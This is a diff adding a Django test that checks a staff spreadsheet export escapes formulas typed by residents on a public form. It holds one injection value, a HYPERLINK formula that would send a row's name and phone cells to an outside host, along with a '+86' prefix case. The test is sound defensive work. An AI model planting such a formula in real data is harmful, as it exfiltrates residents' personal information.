@@ -277,3 +277,16 @@ def test_a_suggestion_from_an_opinion_that_cannot_be_its_source_is_refused_with_
     assert response.status_code == 200 and not Suggestion.objects.exists()
     text = response.content.decode()
     assert "所选意见中有1条尚未受理" in text and "关于疏通北关村主街下水道的建议" in text
+
+
+def test_export_keeps_a_residents_formula_as_text(client, office_user, zhang_opinion):
+    # Typed on the public form: a clerk's click must not send the row's name and phone away.
+    zhang_opinion.place_detail = '=HYPERLINK("http://x.cn/?"&L2&M2,"查看位置")'
+    zhang_opinion.content = "+86 主街积水，老人出行不便。"
+    zhang_opinion.save()
+    client.force_login(office_user)
+    response = client.get(reverse("suggestions:staff_opinions_export"))
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    place, content = sheet.cell(2, 9), sheet.cell(2, 11)
+    assert place.data_type == "s" and place.value == "'" + zhang_opinion.place_detail
+    assert content.data_type == "s" and content.value.startswith("'+86")
